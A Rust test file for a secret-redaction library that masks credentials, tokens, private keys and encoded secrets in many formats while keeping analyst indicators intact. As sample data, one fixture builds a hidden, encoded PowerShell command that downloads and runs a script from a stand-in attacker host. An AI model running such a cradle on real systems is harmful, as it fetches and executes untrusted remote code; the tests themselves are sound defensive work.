//! Kinds of secrets and of things that analysts need, beside the shared cases.

use rmm_analyst::redact::{Class, Redact};

const S: &str = "q7Zx9QwErTy7Lk4kuw2g";
const HEX: &str = "f61c011f1b2bd614192534553ece9efd59beb3e94f91df7ee61877f9a6c0d135";

fn must_redact(text: &str, secret: &str, keep: &[&str]) -> Option<String> {
    let redact = Redact::default();
    let (out, classes) = redact.redact_counted(text);
    let (again, _) = redact.redact_counted(&out);
    if again != out {
        return Some(format!("NOT STABLE {text:?}\n   {out:?}\n   {again:?}"));
    }
    if out.contains(secret) || classes.is_empty() {
        return Some(format!("MISS {text:?}\n   {out:?}"));
    }
    keep.iter()
        .find(|k| !out.contains(**k))
        .map(|k| format!("LOST {k:?} of {text:?}\n   {out:?}"))
}

fn report(problems: Vec<String>, all: usize) {
    assert!(
        problems.is_empty(),
        "{} of {all}:\n{}",
        problems.len(),
        problems.join("\n")
    );
}

#[test]
fn names_in_every_syntax() {
    let names = [
        "password",
        "passwd",
        "pwd",
        "passphrase",
        "secret",
        "client_secret",
        "api_key",
        "apikey",
        "api-key",
        "API_KEY",
        "access_token",
        "accessToken",
        "auth_token",
        "refresh_token",
        "token",
        "private_key",
        "SHODAN_API_KEY",
        "DB_PASSWORD",
        "aws_secret_access_key",
        "X-Api-Key",
        "x-apikey",
        "Auth-Key",
        "auth_key",
        "API-Key",
        "X-OTX-API-KEY",
        "MMAUTHTOKEN",
        "PRIVATE-TOKEN",
        "X-Vault-Token",
        "x-auth-token",
        "dbPass",
        "DB_PASS",
    ];
    let mut problems = Vec::new();
    let mut all = 0;
    for n in names {
        for text in [
            format!("{n}={S}"),
            format!("{n} = {S}"),
            format!("{n}: {S}"),
            format!("{n}:{S}"),
            format!("\"{n}\": \"{S}\""),
            format!("'{n}': '{S}'"),
            format!("{{\"a\":1,\"{n}\":\"{S}\",\"b\":2}}"),
            format!("{n} => '{S}'"),
            format!("{n}=\"{S}\" other=1"),
            format!("?a=1&{n}={S}&b=2"),
            format!("https://x.example.com/p?{n}={S}"),
            format!("--{n} {S} --verbose"),
            format!("--{n}={S}"),
            format!("<{n}>{S}</{n}>"),
            format!("<{n} type=\"x\">{S}</{n}>"),
            format!("<add key=\"{n}\" value=\"{S}\"/>"),
            format!("{{\"name\": \"{n}\", \"value\": \"{S}\"}}"),
            format!("- name: {n}\n  value: {S}"),
            format!("| {n} | {S} |"),
            format!("{n}：{S}"),
            format!("\\\"{n}\\\":\\\"{S}\\\""),
            format!("\\\\\\\"{n}\\\\\\\": \\\\\\\"{S}\\\\\\\""),
            format!("&quot;{n}&quot;:&quot;{S}&quot;"),
            format!("%22{n}%22%3A%22{S}%22"),
            format!("%2522{n}%2522%253A%2522{S}%2522"),
            format!("export {n}={S}"),
            format!("$env:{n} = '{S}'"),
            format!("headers['{n}'] = '{S}'"),
            format!("curl -H \"{n}: {S}\" https://api.example.com/v1"),
            format!("{n} := \"{S}\""),
            format!("set {n}={S};next=1"),
            format!("{n}\u{200B}: {S}"),
            format!("\u{1b}[31m{n}\u{1b}[0m: {S}"),
            format!("{n}: |\n    {S}\nnext: 1"),
        ] {
            all += 1;
            problems.extend(must_redact(&text, S, &[]));
        }
    }
    report(problems, all);
}

#[test]
fn headers_urls_and_connections() {
    let b64 = "dXNlcjpxN1p4OVF3RXJUeTdMazRrdXcyZw==";
    let cases: Vec<(String, &str, Vec<&str>)> = vec![
        (format!("Authorization: Bearer {S}"), S, vec!["Authorization"]),
        (format!("authorization: bearer {S}\r\nAccept: */*"), S, vec!["Accept: */*"]),
        (format!("Authorization: Basic {b64}"), b64, vec![]),
        (format!("Proxy-Authorization: Basic {b64}"), b64, vec![]),
        (format!("Authorization: Token {S}"), S, vec![]),
        (format!("Authorization: ApiKey {S}"), S, vec![]),
        (format!("Authorization: Bot {S}"), S, vec![]),
        (format!("Authorization: {HEX}"), HEX, vec![]),
        ("Authorization: Zx9QwErTy7pLk4kuwzghyQotw7Lkz4kuwzghyQ2q\nAccept: application/json".into(), "Zx9QwErTy7pLk4kuwzghyQotw7Lkz4kuwzghyQ2q", vec!["application/json"]),
        (format!("Authorization: Digest username=\"bob\", realm=\"x\", nonce=\"abc\", uri=\"/\", response=\"{}\"", &HEX[..32]), &HEX[..32], vec!["username=\"bob\"", "uri=\"/\""]),
        (format!("Authorization: AWS4-HMAC-SHA256 Credential=AKIAIDVWTFKTANGPVYQE/20261130/us-east-1/s3/aws4_request, SignedHeaders=host, Signature={HEX}"), HEX, vec!["SignedHeaders=host"]),
        (format!("{{\"Authorization\": \"Bearer {S}\", \"x\": 1}}"), S, vec!["\"x\": 1"]),
        (format!("-H 'Authorization: Bearer {S}' -d x"), S, vec!["-d x"]),
        (format!("Key: {HEX}"), HEX, vec!["Key"]),
        (format!("curl -H \"Key: {HEX}\" https://api.abuseipdb.com/api/v2/check"), HEX, vec!["api.abuseipdb.com/api/v2/check"]),
        (format!("https://api.shodan.io/host/1.1.1.1?key={S}&minify=true"), S, vec!["minify=true", "host/1.1.1.1"]),
        ("https://ipinfo.io/8.8.8.8?token=a1b2c3d4e5f607".into(), "a1b2c3d4e5f607", vec!["ipinfo.io/8.8.8.8"]),
        ("API-Key: 2f29b285-a7a5-363d-0790-e145cedfcee5".into(), "2f29b285-a7a5-363d-0790-e145cedfcee5", vec!["API-Key"]),
        (format!("Cookie: session={S}; lang=en"), S, vec!["lang=en"]),
        (format!("Set-Cookie: sid={S}; Path=/; HttpOnly; SameSite=Lax"), S, vec!["Path=/", "SameSite=Lax"]),
        (format!("Set-Cookie: MMAUTHTOKEN={S}; Path=/"), S, vec!["Path=/"]),
        (format!("\"Cookie\": \"JSESSIONID={S}; a=b\""), S, vec!["a=b"]),
        (format!("https://bob:{S}@git.example.com/r.git"), S, vec!["bob", "git.example.com/r.git"]),
        (format!("https://{S}@github.com/o/r"), S, vec!["github.com/o/r"]),
        (format!("https://{S}:x-oauth-basic@github.com/o/r"), S, vec!["github.com/o/r"]),
        ("redis://:pa55word@cache.example.com:6379/0".into(), "pa55word", vec!["cache.example.com:6379/0"]),
        ("mongodb+srv://app:p4ss@cluster0.example.net/db?retryWrites=true".into(), "p4ss", vec!["cluster0.example.net/db?retryWrites=true"]),
        ("mysql://root:to/or9@db.example.com/x".into(), "to/or9", vec!["db.example.com/x"]),
        ("postgresql://u:hunter2@db.example.com/x?sslmode=require".into(), "hunter2", vec!["sslmode=require"]),
        ("app:hunter2x@tcp(db.example.com:3306)/prod".into(), "hunter2x", vec!["tcp(db.example.com:3306)/prod"]),
        ("host=db.example.com user=app password='it''s a s3cret' dbname=x".into(), "s3cret", vec!["user=app", "dbname=x"]),
        ("host=db user=app password=hunter2 dbname=x".into(), "hunter2", vec!["dbname=x"]),
        ("jdbc:sqlserver://db:1433;databaseName=x;user=sa;password=Pa55;word1;encrypt=true".into(), "Pa55", vec!["databaseName=x"]),
        ("Server=db;Uid=sa;Pwd=WsR05NQOKdKRrC;Encrypt=true".into(), "WsR05NQOKdKRrC", vec!["Encrypt=true"]),
        ("Data Source=db;User ID=sa;Password=\"a;b c1\";Timeout=3".into(), "a;b c1", vec!["Timeout=3"]),
        ("AccountKey=uAoqZvvzkY3YBAoWpE/4mEeEeCsq4mVvcUMwqMMcxq8UtfkY6JID3hw7nIRMSKzdTMBLXkTClBrtlT70/FUKdw==;EndpointSuffix=core.windows.net".into(), "uAoqZvvzkY3YBAoWpE/4mEeEeCsq4mVvcUMwqMMcxq8U", vec!["core.windows.net"]),
        ("Endpoint=sb://x.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=uAoqZvvzkY3YBAoWpE/4mEeEeCsq4mVvcUMwqMMcxq8=".into(), "uAoqZvvzkY3YBAoWpE/4mEeEeCsq4mVvcUMwqMMcxq8=", vec!["x.servicebus.windows.net", "SharedAccessKeyName=Root"]),
        ("https://x.blob.core.windows.net/c/f?sv=2022-11-02&se=2026-12-01&sr=b&sp=r&sig=ZnVja2luZ1NpZ25hdHVyZTEyMzQ1Njc4OTA%3D".into(), "ZnVja2luZ1NpZ25hdHVyZTEyMzQ1Njc4OTA", vec!["x.blob.core.windows.net/c/f", "sp=r"]),
        (format!("https://storage.googleapis.com/b/o?GoogleAccessId=x@y.iam.gserviceaccount.com&Expires=1767225600&Signature={S}%2Bab%3D%3D"), S, vec!["Expires=1767225600"]),
        (format!("https://b.s3.amazonaws.com/k?X-Amz-Security-Token={S}{S}&X-Amz-Expires=60"), S, vec!["X-Amz-Expires=60"]),
        (format!("https://storage.googleapis.com/b/o?X-Goog-Signature={HEX}&X-Goog-Date=20261130T000000Z"), HEX, vec!["X-Goog-Date=20261130T000000Z"]),
        ("https://hooks.slack.com/workflows/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".into(), "Tk5gnvpkJcwLsDFxFaIUvnwL", vec!["hooks.slack.com"]),
        ("https://discordapp.com/api/webhooks/790586948015969173/wQ1Bed3uuyS3Yj9-biBW7FMl0nIEh_xGrNuGfeSGfTA2txDn3mu26NefVN2GxatJfg_r".into(), "wQ1Bed3uuyS3Yj9", vec!["790586948015969173"]),
        ("https://api.telegram.org/bot110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0/getMe".into(), "AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0", vec!["api.telegram.org/bot", "getMe"]),
        ("curl -u bob:hunter2 https://www.circl.lu/pdns/query/x".into(), "hunter2", vec!["bob", "www.circl.lu/pdns/query/x"]),
        ("CREATE USER 'x'@'%' IDENTIFIED BY 'hunter2';".into(), "hunter2", vec!["CREATE USER"]),
        ("ALTER ROLE app WITH PASSWORD 'hunter2' LOGIN".into(), "hunter2", vec!["ALTER ROLE app"]),
        ("machine api.example.com login bob password hunter2".into(), "hunter2", vec!["login bob"]),
        ("bearer: Zx9QwErTy7".into(), "Zx9QwErTy7", vec![]),
        ("Bearer abc+Sx9/..Zx9QwErTy7".into(), "Zx9QwErTy7", vec![]),
        ("token: token: Zx9QwErTy7".into(), "Zx9QwErTy7", vec![]),
        ("password: two Zx9QwErTy7".into(), "Zx9QwErTy7", vec![]),
        ("api key: Zx9QwErTy7".into(), "Zx9QwErTy7", vec!["api key"]),
        ("access key = Zx9QwErTy7".into(), "Zx9QwErTy7", vec!["access key"]),
        ("%3Fapi_key%3DZx9QwErTy7".into(), "Zx9QwErTy7", vec![]),
        ("{\"log\":\"{\\\"password\\\":\\\"hunter2\\\"}\"}".into(), "hunter2", vec!["log"]),
        ("PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=".into(), "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=", vec![]),
        ("AGE-SECRET-KEY-1QQPQZRFR7ZZ2WCV5W5AFPSPVZQZ6S6DQ4VWQ6TKG7Y7V9MYZVGGQ8ZWTRQ".into(), "QQPQZRFR7ZZ2WCV5W5AFPSPVZQZ6S6DQ4VWQ6TKG7Y7V9MYZVGGQ8ZWTRQ", vec![]),
        ("https://a.webhook.office.com/webhookb2/2f29b285-a7a5-363d-0790-e145cedfcee5@2f29b285-a7a5-363d-0790-e145cedfcee5/IncomingWebhook/f61c011f1b2bd614192534553ece9efd/2f29b285-a7a5-363d-0790-e145cedfcee5".into(), "f61c011f1b2bd614192534553ece9efd", vec!["a.webhook.office.com"]),
        ("AWS_SESSION_TOKEN=FwoGZXIvYXdzEBYaDOCX0a1b2c3d4e5f6g7h8".into(), "FwoGZXIvYXdzEBYaDOCX0a1b2c3d4e5f6g7h8", vec![]),
        ("found key AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY in js".into(), "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY", vec!["in js"]),
        ("hf_aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567".into(), "hf_aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567", vec![]),
        ("npm_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789".into(), "npm_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789", vec![]),
        ("pypi-AgEIcHlwaS5vcmcCJDU5ZTc2YzQ5LTU0N2EtNDI0ZC1hYjY0LWM2MzQ1NmM5ZjE2NQACKlszLCJk".into(), "AgEIcHlwaS5vcmcCJDU5ZTc2YzQ5", vec![]),
        ("sk-ant-api03-R2D2c3POaBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789-aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789aBcDeFgHiJkLmN-abcdefAA".into(), "R2D2c3POaBcDeFgHiJkLmNoP", vec![]),
        ("glpat-l08-JeGacygXyRWE4H5M leaked".into(), "glpat-l08-JeGacygXyRWE4H5M", vec!["leaked"]),
        ("xoxb-1234567890-1234567890123-aBcDeFgHiJkLmNoPqRsTuVwX".into(), "aBcDeFgHiJkLmNoPqRsTuVwX", vec![]),
        ("sk_live_4eC39HqLyjWDarjtT1zdp7dc".into(), "4eC39HqLyjWDarjtT1zdp7dc", vec![]),
        ("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".into(), "ngeVfQFYQlKU0ufo8x5d1A", vec![]),
        ("dop_v1_f61c011f1b2bd614192534553ece9efd59beb3e94f91df7ee61877f9a6c0d135".into(), HEX, vec![]),
        ("hvs.CAESIJlWWLh9aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789".into(), "CAESIJlWWLh9aBcDeFg", vec![]),
        ("client secret is abc8Q~RrtF4QeH1kLmNoPqRsTuVwXyZ012345678 ok".into(), "abc8Q~RrtF4QeH1kLmNoPqRsTuVwXyZ012345678", vec!["ok"]),
        ("1//0eAbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCd".into(), "0eAbCdEfGhIjKlMnOpQrStUvWxYz", vec![]),
        ("ya29.a0AfH6SMBx9QwErTy7Lk4kuw2gq7Zx9QwErTy7Lk4kuw2g".into(), "a0AfH6SMBx9QwErTy7Lk4kuw2g", vec![]),
        ("cioaBcDeFgHiJkLmNoPqRsTuVwXyZ012345".into(), "cioaBcDeFgHiJkLmNoPqRsTuVwXyZ012345", vec![]),
    ];
    let all = cases.len();
    report(
        cases
            .iter()
            .filter_map(|(t, s, k)| must_redact(t, s, k))
            .collect(),
        all,
    );
}

fn b64(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(text)
}

const KEY_LINES: [&str; 4] = [
    "7hvOQa9t/EQ/RdnLo0Y9g0EwgzrvQdo2FPJzML4n6gHP0Kicr1n/ZR2QpFacXc1k",
    "tePkOb7mso/gv3kKwd0WNJym7vxwytATKo0ljEaQZkc8Ca+XiKGPJvKMhY6gnQqt",
    "9582t0Ygs/62De+cZvhHWFYUD6ZXR6ePpnowCL1RCygFkHd63HlGdjXi147PZCuq",
    "oqjaJxghcC71Fl5t6tUjNVrZ2bIQcM3M375Wg5m5xTEZPSIJKF8bK4cScIIrrXsv",
];

#[test]
fn private_keys_in_every_shape() {
    let body = KEY_LINES.join("\n");
    let mut shapes = Vec::new();
    for label in [
        "PRIVATE KEY",
        "RSA PRIVATE KEY",
        "EC PRIVATE KEY",
        "OPENSSH PRIVATE KEY",
        "ENCRYPTED PRIVATE KEY",
        "PGP PRIVATE KEY BLOCK",
    ] {
        let (b, e) = (
            format!("-----BEGIN {label}-----"),
            format!("-----END {label}-----"),
        );
        let pem = format!("{b}\n{body}\n{e}");
        shapes.push(format!("before\n{pem}\nafter"));
        shapes.push(format!("before\n{b}\n{body}\nafter the cut there is prose"));
        shapes.push(format!("before\n{b}\n{body}"));
        shapes.push(format!("before\n{body}\n{e}\nafter"));
        shapes.push(format!(
            "before {{\"k\": \"{}\"}} after",
            pem.replace('\n', "\\n")
        ));
        shapes.push(format!(
            "before {{\\\"k\\\": \\\"{}\\\"}} after",
            pem.replace('\n', "\\\\n")
        ));
        shapes.push(format!(
            "before\n{}\nafter",
            pem.lines().map(|l| format!("> {l}\n")).collect::<String>()
        ));
        shapes.push(format!(
            "before\n{}\nafter",
            pem.lines()
                .map(|l| format!("| {l} |\n"))
                .collect::<String>()
        ));
        shapes.push(format!(
            "before\n{}\nafter",
            pem.lines()
                .map(|l| format!("    {l}\n"))
                .collect::<String>()
        ));
        shapes.push(format!(
            "before\n{}after",
            pem.replace('\n', "\r\n") + "\r\n"
        ));
        shapes.push(format!(
            "before\n{b}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0102\n\n{body}\n{e}\nafter"
        ));
        shapes.push(format!("before {} after", pem.replace('\n', " ")));
        shapes.push(format!("before {} after", b64(&pem)));
        shapes.push(format!(
            "before {} after",
            pem.replace('\n', "%0A")
                .replace(' ', "%20")
                .replace('+', "%2B")
                .replace('/', "%2F")
        ));
        shapes.push(format!("before {} after", pem.replace('\n', "&#10;")));
        shapes.push(format!("before {} after", pem.replace('\n', "\\u000a")));
        shapes.push(format!(
            "before\n{}\nafter",
            pem.lines()
                .map(|l| format!("\"{l}\\n\" +\n"))
                .collect::<String>()
        ));
    }
    let all = shapes.len();
    let mut problems = Vec::new();
    for text in &shapes {
        for part in KEY_LINES {
            problems.extend(must_redact(text, part, &["before"]));
            if text.contains("after") {
                problems.extend(must_redact(text, part, &["after"]));
            }
            let middle = &part[20..44];
            problems.extend(must_redact(text, middle, &[]));
        }
    }
    problems.dedup();
    problems.truncate(12);
    report(problems, all);
}

#[test]
fn base64_of_what_names_a_secret() {
    let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1MSIsImV4cCI6MTg5MzQ1NjAwMH0.weTru45EpfzKrjnlaDAnUyg1RXrJBP";
    let texts = [
        jwt.to_owned(),
        format!("{{\"password\": \"{S}\"}}"),
        format!("{{\"user\":\"bob\",\"api_key\":\"{S}\",\"n\":1}}"),
        format!("export TOKEN={S}\nexport A=1\n"),
        format!("Authorization: Bearer {S}"),
        format!("found AKIAIDVWTFKTANGPVYQE and {S}"),
    ];
    let mut problems = Vec::new();
    for inner in &texts {
        let once = b64(inner);
        for text in [
            format!("data: {once}"),
            format!("x={once}&y=1"),
            format!("\"{once}\""),
            format!("https://x.example/p/{once}"),
            format!("eval(atob('{}'))", b64(&once)),
        ] {
            let redact = Redact::default();
            let (out, classes) = redact.redact_counted(&text);
            if classes.is_empty() || out.contains(&once) {
                problems.push(format!("MISS {text}\n   {out}"));
            }
            if redact.redact_counted(&out).0 != out {
                problems.push(format!("NOT STABLE {text}"));
            }
        }
    }
    // UTF-16, as encoded PowerShell has it.
    let utf16: Vec<u8> = format!("$password = '{S}'; Get-Item C:\\x")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let encoded = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(utf16)
    };
    let (out, classes) = Redact::default().redact_counted(&format!("powershell -enc {encoded}"));
    if classes != [Class::Password] || out.contains(&encoded) {
        problems.push(format!("MISS utf16 {out}"));
    }
    report(problems, texts.len() * 5 + 1);
}

#[test]
fn what_analysts_need_survives() {
    let powershell: String = {
        use base64::Engine;
        let utf16: Vec<u8> =
            "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1')"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect();
        base64::engine::general_purpose::STANDARD.encode(utf16)
    };
    let texts: Vec<String> = vec![
        "md5 d41d8cd98f00b204e9800998ecf8427e sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709".into(),
        format!("sha256: {HEX}"),
        format!("{{\"sha256\": \"{HEX}\", \"file_name\": \"key.exe\"}}"),
        format!("sha512={HEX}{HEX}"),
        "ja3=e7d705a3286e19ea42f587b344ee6865 ja3s: 6734f37431670b3ab4292b8f60f29984 ja4 t13d1516h2_8daaf6152771_b186095e22b6".into(),
        "ssdeep 3072:S4dRYnWgIYl5Hw5J8DqKz0qPNvB2kZ3:S4dInWgIYlRcJ8DqKz0q".into(),
        "SHA256:uNiVztksCsDhcc0u9e8BgrJXVGDVkGIpX7aB0gzmJ3o bob@host (ED25519)".into(),
        "Public key: MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo".into(),
        "public_key: MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo".into(),
        "Serial Number: 04:9e:3f:aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66".into(),
        "uuid 2f29b285-a7a5-363d-0790-e145cedfcee5 GUID={2F29B285-A7A5-363D-0790-E145CEDFCEE5}".into(),
        "eth 0xdAC17F958D2ee523a2206206994597C13D831ec7 token: 0xdAC17F958D2ee523a2206206994597C13D831ec7".into(),
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq LTC ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9".into(),
        "http://duskgytldkxiuqc6.onion/ expyuzz4wqqyqhjn.onion".into(),
        "v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC3QEKyU1fSma0axspqYK5iAj".into(),
        "v=spf1 include:_spf.google.com ~all".into(),
        "MS=ms12345678 facebook-domain-verification=2v5x8z7q1w3e4r5t6y7u8i9o0p1a2s".into(),
        "UA-12345678-1 G-ABCDEF1234 GTM-ABC1234 fbq('init', '123456789012345')".into(),
        "<script src=\"https://cdn.example/x.js\" integrity=\"sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC\"></script>".into(),
        format!("powershell.exe -nop -w hidden -enc {powershell}"),
        "The key to the case is the password policy; the token ring and a secret service were mentioned.".into(),
        "Key findings: 3 hosts. Token theft: possible. Password: must be rotated. Secret: Service account".into(),
        "token: Ethereum | symbol: ETH | key: value".into(),
        "Registry key: HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run".into(),
        "reg_key=HKEY_LOCAL_MACHINE\\SOFTWARE\\Classes key_length: 2048 key_algorithm: RSA".into(),
        "primary key: user_id2024x, foreign_key=account_id1".into(),
        "Bearer of bad news; basic authentication is disabled; Basic auth required".into(),
        "token_type: Bearer, expires_in: 3600, scope: read".into(),
        "prompt_tokens: 812, completion_tokens=121, max_tokens: 4096, tokenizer: gpt2".into(),
        "nextPageToken: CAUQAA1b2c3d4e5f6g7".into(),
        "password_last_set=2024-01-01T00:00:00Z pwdLastSet: 133497600000000000 badPwdCount=3".into(),
        "PWD=/home/bob/src OLDPWD=/tmp/x1y2z3".into(),
        "pass: 12, fail: 3, skip: 0".into(),
        "hxxps://evil[.]example[.]com/login?user=bob&redirect=/home".into(),
        "https://evil.example.com/wp-content/plugins/akismet/_inc/img/sec-key1/x.php?id=5f4dcc3b5aa765d61d8327deb882cf99".into(),
        "https://github.com/o/r/commit/460ebf092716d1b949eed0420d720e6a645aa310".into(),
        "https://bazaar.abuse.ch/sample/f61c011f1b2bd614192534553ece9efd59beb3e94f91df7ee61877f9a6c0d135/".into(),
        "https://web.telegram.org/k/ https://hooks.example.com/docs ftp://anonymous@ftp.example.com/pub".into(),
        "rule a { strings: $k = \"password=\" ascii $t = \"token\" condition: all of them }".into(),
        "mutex Global\\a1b2c3d4e5f6 pipe \\\\.\\pipe\\msagent_a1".into(),
        "sk-learn-random-forest-classifier-version-2-model pk_test risk-based sk-task ask-me".into(),
        "authenticated=true auth: 2FA, authority: example.com, author: Zx9QwErTy7x".into(),
        "CVE-2024-3094 CWE-798: Use of Hard-coded Credentials; T1552.001 Credentials In Files".into(),
        "Set-Cookie: theme=dark; Path=/; Expires=Wed, 21 Oct 2026 07:28:00 GMT; _ga=GA1.2.1234567890.1234567890".into(),
        "WWW-Authenticate: Bearer realm=\"example\", error=\"invalid_token\"".into(),
        "Authorization: required; authorization failed for user bob".into(),
        "api_key: null, api_key: <API_KEY>, api_key=${API_KEY}, token: {{ token }}, password: $PASSWORD, password=%PASS%".into(),
        "password = getpass(), token = os.environ['TOKEN'], key = config.key".into(),
        "\"key\": \"logs/2024/01/file1.gz\", \"Key\": \"Name\", \"Value\": \"prod-web-01\"".into(),
        "10.0.0.1 - - [30/Nov/2026:17:11:39 +0000] \"GET /auth/login HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"".into(),
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA bob@host".into(),
        "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n-----END CERTIFICATE-----".into(),
        "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQENBFVnWZ4BCADBPzzYVjN2kbP7u9bDnKlZ\n=abcd\n-----END PGP PUBLIC KEY BLOCK-----".into(),
        "T11608153CE7652B99EE176AAEAEB6418E956ECF70DCCBB463756F4042B07466D7E765A5".into(),
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==".into(),
        "X-Request-Id: 7f3a9c1e2b4d5f60 trace_id=4bf92f3577b34da6a3ce929d0e0e4736 session opened for user root".into(),
        "Kerberos ticket for krbtgt/EXAMPLE.COM, logon session 0x3e7, SID S-1-5-21-3623811015-3361044348-30300820-1013".into(),
        "Signature: Trojan.GenericKD.12345678, signature=valid, Signature Algorithm: sha256WithRSAEncryption".into(),
        format!("auth: sha256:{HEX} token: sha256:{HEX}"),
        "Пароль не найден; 密碼政策；パスワード".into(),
        "\u{1b}[31mred\u{1b}[0m and zero\u{200B}width stay".into(),
    ];
    let redact = Redact::default();
    let mut problems = Vec::new();
    for t in &texts {
        let (out, classes) = redact.redact_counted(t);
        if out != *t || !classes.is_empty() {
            problems.push(format!("CHANGED {t:?}\n   {out:?}"));
        }
    }
    report(problems, texts.len());
}

#[test]
fn operators_patterns() {
    assert!(Redact::new(&[], &["(".into()]).is_err());
    assert!(Redact::new(&[], &["a*".into()]).is_err());
    let redact = Redact::new(&[], &["TICKET-[0-9]+".into()]).expect("a pattern");
    assert_eq!(
        redact.redact_counted("see TICKET-42 now"),
        (
            "see [redacted:pattern] now".to_owned(),
            vec![Class::Pattern]
        )
    );
}
